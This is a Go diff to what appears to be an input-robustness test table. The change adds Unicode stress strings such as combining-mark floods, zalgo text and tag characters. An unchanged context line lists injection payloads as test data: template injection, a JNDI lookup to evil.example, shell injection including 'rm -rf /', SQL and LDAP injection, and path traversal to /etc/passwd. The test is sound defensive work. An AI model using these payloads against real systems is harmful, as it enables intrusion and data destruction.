@@ -73,7 +73,8 @@ var attacks = []attack{
 		"{{.Key}} {{ 7*7 }} {{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/a} ${7*7} #{7*7}", "%s%s%s%n %d %!v(PANIC=) %[1]*d", "<%= 7*7 %> {% x %} {# y #}", "$(id) `id` ; rm -rf / | x && y", "' OR 1=1 --", "\\u0000 \\n \\x1b[2J", "{\"a\":1,\"key\":\"forged\"}", "*)(uid=*))(|(uid=*", "../../etc/passwd",
 	}},
 	{"sizes", []string{
-		"a" + strings.Repeat("\u0301", 2000), strings.Repeat("👩\u200d", 500), strings.Repeat("🇪🇺", 300), strings.Repeat("x", 20_000), strings.Repeat("@here ", 2000), strings.Repeat("[", 5000), strings.Repeat("*_", 3000), strings.Repeat("> ", 2000), strings.Repeat("\n", 2000), strings.Repeat("<b>", 2000),
+		"a" + strings.Repeat("\u0301", 2000), "a" + strings.Repeat("\u20dd\u0489", 1000), "\u0e01" + strings.Repeat("\u0e49", 1000), strings.Repeat("\u1100", 1000),
+		"\u0f40" + strings.Repeat("\u0f90", 1000), strings.Repeat("a"+strings.Repeat("\u0335", 30), 100), strings.Repeat("\u0301", 1000), "🏴" + strings.Repeat("\U000e0067", 500), strings.Repeat("👩\u200d", 500), strings.Repeat("🇪🇺", 300), strings.Repeat("x", 20_000), strings.Repeat("@here ", 2000), strings.Repeat("[", 5000), strings.Repeat("*_", 3000), strings.Repeat("> ", 2000), strings.Repeat("\n", 2000), strings.Repeat("<b>", 2000),
 	}},
 	{"blanks", []string{" \t ", "", "\u00a0\u2003\u3000", ".", "-", "0", "null"}},
 }
